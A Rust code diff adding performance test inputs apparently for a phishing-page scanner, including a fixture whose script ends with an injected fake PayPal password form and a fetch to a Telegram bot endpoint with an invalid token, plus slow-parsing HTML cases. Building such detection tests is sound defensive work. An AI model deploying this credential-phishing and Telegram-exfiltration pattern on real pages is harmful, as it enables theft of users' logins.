@@ -100,6 +100,7 @@ fn together() -> Vec<Kind> {
         }),
         kind("pages-of-one-script.zip", shared_script),
         kind("pages-of-all-scripts.zip", all_scripts),
+        kind("pages-of-refused-script.zip", refused_script),
     ]
 }
 
@@ -110,6 +111,16 @@ fn shared_script(bytes: usize) -> Input {
     let mut files = vec![("all.js".to_owned(), repeated(unit, bytes))];
     files.extend((0..1999).map(|number| (format!("{number}.html"), page.to_owned())));
     Input { name: "pages-of-one-script.zip".to_owned(), files }
+}
+
+/// Two thousand pages that are all refused for the end of one script, which makes up nearly the whole size.
+fn refused_script(bytes: usize) -> Input {
+    let end = "el.innerHTML='<h1>Sign in to your PayPal account</h1><input name=user><input type=password>';\
+               fetch('https://api.telegram.org/bot1:INVALID/sendMessage');\n";
+    let mut files = vec![("all.js".to_owned(), repeated("let x = 1;\n", bytes) + end)];
+    let page = "<script src=all.js></script>";
+    files.extend((0..1999).map(|number| (format!("{number}.html"), page.to_owned())));
+    Input { name: "pages-of-refused-script.zip".to_owned(), files }
 }
 
 /// A hundred scripts and pages that load each of them.
@@ -154,7 +165,7 @@ const LARGE: [(&str, &str); 6] = [
 
 /// Building blocks that could make a careless parser slow.
 #[rustfmt::skip]
-const SLOW: [(&str, &str); 32] = [
+const SLOW: [(&str, &str); 34] = [
     ("opening-brackets.html", "<"),
     ("comment-starts.html", "<!--"),
     ("dashes.html", "<!-- -"),
@@ -175,6 +186,8 @@ const SLOW: [(&str, &str); 32] = [
     ("titles.html", "<title>PayPal</title>"),
     ("frames.html", "<iframe srcdoc='<iframe srcdoc=&quot;<input type=password>&quot;>'></iframe>"),
     ("hidden.html", "<span style='display:none'>x</span>"),
+    ("hidden-items.html", "<ul><li hidden>x</ol>"),
+    ("selectors.html", "<style>((.a[,/*{}*/.b:not(.c,.d) .e{display:/**/none}"),
     ("links.html", "<a href=https://a.b.c.d.e.f.example.org/login>x</a>"),
     ("fallbacks.html", "<noframes><noframes>"),
     ("ampersands.html", "&"),
